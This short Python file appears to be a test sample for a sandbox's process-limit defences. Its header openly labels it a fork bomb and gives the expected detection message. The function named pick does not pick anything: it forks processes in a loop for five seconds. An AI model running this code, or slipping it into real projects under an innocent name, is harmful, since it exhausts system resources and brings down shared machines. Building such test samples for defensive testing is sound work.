# mark: 7
# why: attack: a fork bomb
# canary: neighbours
# says: started more than 8 processes
# bare: no (a machine without limits would be lost)

# %% pick
import os
import time


def pick(items, k):
    until = time.monotonic() + 5
    while time.monotonic() < until:
        try:
            os.fork()
        except OSError:
            pass
    os._exit(0)
